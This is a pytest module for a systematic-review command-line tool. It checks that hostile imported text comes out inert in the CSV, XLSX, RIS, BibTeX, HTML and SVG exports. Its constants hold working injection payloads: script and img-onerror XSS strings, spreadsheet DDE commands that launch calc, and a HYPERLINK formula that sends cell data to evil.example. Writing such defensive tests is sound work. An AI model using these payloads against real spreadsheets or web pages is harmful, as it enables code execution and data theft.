"""Hostile text from an import, followed to every export: CSV and XLSX cells are formula-safe, RIS
and BibTeX keep one entry per record, the map's HTML and SVG and the PRISMA SVG hold it as text
(no element, no handler, no formula). Run through the command line, as a script would.

The pages are covered where they render (tests/app: `test_markup_in_a_title_is_shown_as_text`;
tests/mapping: the map's own HTML and browser tests); this follows one import to all the files.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from review.cli import main
from review.records.importing import load_source, read_file
from review.records.writers.safe_cells import FORMULA_TRIGGERS
from review.store.engine import dispose_engines

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, AT_SUM, PLUS_CMD, MINUS)


def records_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "title", "authors", "abstract", "journal", "keywords", "year", "doi"])
    writer.writerow(
        [
            "k1",
            HYPERLINK,
            f"{IMG}; {MINUS}",
            f"{SCRIPT}\nER  - \nTY  - JOUR\nTI  - smuggled record",
            AT_SUM,
            f"{PLUS_CMD}; {SCRIPT}",
            "2020",
            "10.1000/k1",
        ]
    )
    writer.writerow(
        [
            "k2",
            f"{SCRIPT} Routine outcome monitoring",
            "=cmd|' /C calc'!A0",
            "} @article{smuggled, title={x}} {",
            IMG,
            AT_SUM,
            "2021",
            "10.1000/k2",
        ]
    )
    return out.getvalue()


def findings_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["source_key", "type", "level", "theme", "finding", "quote", "page"])
    writer.writerow(["k1", "barrier", "therapist", SCRIPT, IMG, HYPERLINK, AT_SUM])
    writer.writerow(["k2", "facilitator", "client", IMG, PLUS_CMD, SCRIPT, "3"])
    return out.getvalue()


def decisions_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["reviewer", "source_key", "stage", "decision", "reason", "note"])
    for reviewer in ("r1", "r2"):
        writer.writerow([reviewer, "k1", "title_abstract", "include", "", HYPERLINK])
        writer.writerow([reviewer, "k1", "full_text", "exclude", SCRIPT, MINUS])
    return out.getvalue()


@pytest.fixture
def project(tmp_path: Path) -> Iterator[list[str]]:
    """A project holding the hostile records, findings and decisions; yields the CLI's --db args."""
    args = ["--db", f"sqlite:///{tmp_path / 'hostile.db'}", "--project", "hostile"]
    (tmp_path / "hostile.csv").write_text(records_csv(), encoding="utf-8")
    (tmp_path / "findings.csv").write_text(findings_csv(), encoding="utf-8")
    (tmp_path / "decisions.csv").write_text(decisions_csv(), encoding="utf-8")
    # --format: the abstract holds RIS lines, which content detection would take for a RIS file.
    assert (
        main([*args, "import", str(tmp_path / "hostile.csv"), "--format", "csv", "--source-db", SCRIPT]) == 0
    )
    assert main([*args, "findings", "import", str(tmp_path / "findings.csv")]) == 0
    assert main([*args, "screen", "import", str(tmp_path / "decisions.csv")]) == 0
    yield args
    dispose_engines()


def export(args: list[str], tmp_path: Path, what: str, suffix: str) -> Path:
    out = tmp_path / f"{what}{suffix}"
    assert main([*args, "export", "--what", what, "--out", str(out)]) == 0
    return out


def assert_formula_safe(cells: list[str], where: str) -> None:
    for cell in cells:
        assert cell[:1] not in FORMULA_TRIGGERS, f"{where}: {cell!r} would run as a formula"


@pytest.mark.parametrize("what", ["records", "findings", "decisions"])
def test_csv_and_xlsx_cells_never_start_a_formula(project: list[str], tmp_path: Path, what: str) -> None:
    csv_cells = [
        cell
        for row in csv.reader(
            export(project, tmp_path, what, ".csv").read_text(encoding="utf-8-sig").splitlines()
        )
        for cell in row
    ]
    assert_formula_safe(csv_cells, f"{what}.csv")
    book = openpyxl.load_workbook(export(project, tmp_path, what, ".xlsx"))
    xlsx_cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in xlsx_cells if cell.data_type == "f"], "no formula cells"
    assert_formula_safe([cell.value for cell in xlsx_cells if isinstance(cell.value, str)], f"{what}.xlsx")
    # The hostile values are there, neutralised rather than dropped.
    joined = "\n".join(csv_cells)
    present = [payload for payload in FORMULAS if "'" + payload in joined]
    assert present, f"{what}.csv holds none of the formulas"
    assert all(payload in joined for payload in present)


@pytest.mark.parametrize("suffix", [".ris", ".bib"])
def test_ris_and_bibtex_keep_one_entry_per_record(project: list[str], tmp_path: Path, suffix: str) -> None:
    """An abstract carrying `ER  -` lines, or unbalanced braces and `@article{`, stays inside its
    record: reading the export back gives the same two records, with the same titles."""
    # The format named: the smuggled `TY  -` line would make content detection say RIS.
    plan = read_file(
        load_source(export(project, tmp_path, "records", suffix)), {".ris": "ris", ".bib": "bibtex"}[suffix]
    )
    assert not plan.problems
    assert sorted(record.title or "" for record in plan.records) == sorted(
        [HYPERLINK, f"{SCRIPT} Routine outcome monitoring"]
    )


def assert_inert_svg(svg: str, where: str) -> ET.Element:
    """Well-formed XML with no script or foreign element and no event-handler attribute."""
    root = ET.fromstring(svg)
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1].lower()
        assert tag not in {"script", "img", "foreignobject", "iframe"}, f"{where}: <{tag}>"
        assert not [name for name in element.attrib if name.lower().startswith("on")], f"{where}: handler"
    return root


def test_the_prisma_svg_holds_the_source_database_and_reason_as_text(
    project: list[str], tmp_path: Path
) -> None:
    out = tmp_path / "prisma.svg"
    assert main([*project, "prisma", "--out", str(out)]) == 0
    svg = out.read_text(encoding="utf-8")
    texts = " ".join("".join(element.itertext()) for element in assert_inert_svg(svg, "prisma.svg").iter())
    assert SCRIPT in texts, "the database name is shown, as text"
    assert "<script" not in svg


def test_the_map_html_and_svg_hold_the_themes_and_quotes_as_text(project: list[str], tmp_path: Path) -> None:
    html_out, svg_out = tmp_path / "map.html", tmp_path / "map.svg"
    assert main([*project, "map", "--out", str(html_out)]) == 0
    assert main([*project, "map", "--out", str(svg_out)]) == 0
    html = html_out.read_text(encoding="utf-8")
    for raw in (SCRIPT, IMG, "<img", "</script><script>", 'onerror="window'):
        assert raw not in html, f"map.html carries {raw!r} unescaped"
    assert "window.__pwned=1" in html, "the hostile theme is in the map, escaped"
    svg = svg_out.read_text(encoding="utf-8")
    texts = " ".join("".join(element.itertext()) for element in assert_inert_svg(svg, "map.svg").iter())
    assert SCRIPT in texts or IMG in texts, "a hostile theme labels the gap matrix, as text"
